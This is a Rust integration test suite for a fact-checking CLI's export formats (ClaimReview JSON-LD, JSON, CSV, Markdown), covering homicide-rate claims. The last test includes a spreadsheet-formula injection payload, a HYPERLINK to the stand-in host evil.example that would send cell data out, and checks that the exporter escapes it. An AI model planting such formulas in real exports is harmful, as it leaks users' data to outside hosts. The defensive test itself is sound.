//! `claimcheck export`: ClaimReview JSON-LD with Google's required and recommended
//! properties, JSON lines, CSV and Markdown, through the real binary.

mod common;

use common::{seed_claims, TestApp};
use serde_json::Value;

async fn checked_app() -> TestApp {
    let app = TestApp::start().await;
    let mut config = app.config();
    config.publisher.name = Some("Example Fact Check".into());
    config.publisher.url = Some("https://factcheck.example.org/reports/".into());
    app.write_config(&config);
    app.cmd()
        .arg("import")
        .arg(seed_claims())
        .assert()
        .success();
    app.cmd().args(["verify", "--all"]).assert().success();
    app
}

fn stdout(app: &TestApp, args: &[&str]) -> String {
    let o = app.cmd().args(args).output().unwrap();
    assert!(o.status.success(), "{}", String::from_utf8_lossy(&o.stderr));
    String::from_utf8(o.stdout).unwrap()
}

#[tokio::test(flavor = "multi_thread")]
async fn claimreview_has_required_and_recommended_properties() {
    let app = checked_app().await;
    let text = stdout(
        &app,
        &[
            "export",
            "--format",
            "claimreview",
            "--appearance",
            "https://www.newsweek.com/ms-13",
            "--claim-author",
            "Newsweek",
            "--claim-date",
            "2019-02-05",
        ],
    );
    let reviews: Vec<Value> = serde_json::from_str(&text).unwrap();
    assert_eq!(reviews.len(), 9);
    for r in &reviews {
        assert_eq!(r["@context"], "https://schema.org");
        assert_eq!(r["@type"], "ClaimReview");
        assert!(!r["claimReviewed"].as_str().unwrap().is_empty());
        let id_url = r["url"].as_str().unwrap();
        assert!(
            id_url.starts_with("https://factcheck.example.org/reports/claims/"),
            "{id_url}"
        );
        assert!(id_url.ends_with(".html") && !id_url.contains("//claims"));
        assert_eq!(r["author"]["@type"], "Organization");
        assert_eq!(r["author"]["name"], "Example Fact Check");
        assert!(chrono::NaiveDate::parse_from_str(
            r["datePublished"].as_str().unwrap(),
            "%Y-%m-%d"
        )
        .is_ok());
        let rating = &r["reviewRating"];
        assert_eq!(rating["@type"], "Rating");
        assert!(rating["alternateName"].is_string());
        let item = &r["itemReviewed"];
        assert_eq!(item["@type"], "Claim");
        assert_eq!(
            item["appearance"][0]["url"],
            "https://www.newsweek.com/ms-13"
        );
        assert_eq!(item["author"]["name"], "Newsweek");
        assert_eq!(item["datePublished"], "2019-02-05");
    }
    let by_text = |t: &str| {
        reviews
            .iter()
            .find(|r| r["claimReviewed"].as_str().unwrap().contains(t))
            .unwrap()
    };
    let rate = &by_text("was 105 per 100,000")["reviewRating"];
    assert_eq!(
        (
            rate["ratingValue"].as_i64(),
            rate["bestRating"].as_i64(),
            rate["worstRating"].as_i64()
        ),
        (Some(4), Some(5), Some(1))
    );
    assert_eq!(rate["alternateName"], "Mostly true");
    assert!(rate["ratingExplanation"]
        .as_str()
        .unwrap()
        .contains("107.6"));
    let unverifiable = &by_text("$48 million")["reviewRating"];
    assert_eq!(unverifiable["alternateName"], "Unverifiable");
    assert!(
        unverifiable.get("ratingValue").is_none(),
        "no numeric rating: {unverifiable}"
    );
}

#[tokio::test(flavor = "multi_thread")]
async fn json_csv_and_markdown_by_tag_and_id() {
    let app = checked_app().await;
    let lines = stdout(&app, &["export", "--format", "json", "--tag", "homicide"]);
    let objects: Vec<Value> = lines
        .lines()
        .map(|l| serde_json::from_str(l).unwrap())
        .collect();
    assert_eq!(objects.len(), 4);
    assert!(objects.iter().all(|o| o["latest"]["verdict"].is_string()));

    let csv_text = stdout(
        &app,
        &[
            "export",
            "--format",
            "csv",
            "sv-homicide-2015",
            "us-police-training-48m",
        ],
    );
    let mut reader = csv::Reader::from_reader(csv_text.as_bytes());
    let headers = reader.headers().unwrap().clone();
    assert_eq!(&headers[0], "id");
    let rows: Vec<csv::StringRecord> = reader.records().map(Result::unwrap).collect();
    assert_eq!(rows.len(), 2);
    let col = |name: &str| headers.iter().position(|h| h == name).unwrap();
    let sv = rows.iter().find(|r| &r[0] == "sv-homicide-2015").unwrap();
    assert_eq!(&sv[col("verdict")], "mostly-true");
    assert_eq!(&sv[col("actual")], "107.638231");
    assert_eq!(
        &sv[col("data_url")],
        "https://data.worldbank.org/indicator/VC.IHR.PSRC.P5?locations=SV"
    );

    let md = stdout(
        &app,
        &["export", "--format", "markdown", "--tag", "homicide"],
    );
    assert!(md.starts_with("| Verdict | Claim | Data says | Data |"));
    assert!(
        md.contains("| ✓ Mostly true | By 2015 the murder rate in El Salvador was 105"),
        "{md}"
    );

    let o = app
        .cmd()
        .args(["export", "--format", "csv", "nope"])
        .output()
        .unwrap();
    assert_eq!(o.status.code(), Some(2));
}

/// CSV cells of free text that start like a formula are not formulas in a spreadsheet
/// (claim text comes from articles and the API); a claim with no year shows the year
/// checked.
#[tokio::test(flavor = "multi_thread")]
async fn csv_text_cannot_run_as_a_formula() {
    let app = TestApp::start().await;
    let file = app.claim_file(
        "f.toml",
        r#"
[[claim]]
id = "formula"
text = '=HYPERLINK("http://evil.example/?x="&A1,"click") Honduras 55.7 in 2015'
indicator = "VC.IHR.PSRC.P5"
country = "HND"
year = 2015
value = 55.7
"#,
    );
    app.cmd().arg("import").arg(&file).assert().success();
    app.cmd().args(["verify", "formula"]).assert().success();
    let out = app
        .cmd()
        .args(["export", "--format", "csv", "formula"])
        .output()
        .unwrap();
    let csv = String::from_utf8(out.stdout).unwrap();
    assert!(csv.contains("\"'=HYPERLINK("), "{csv}");
    assert!(!csv.contains(",\"=HYPERLINK"), "{csv}");
}
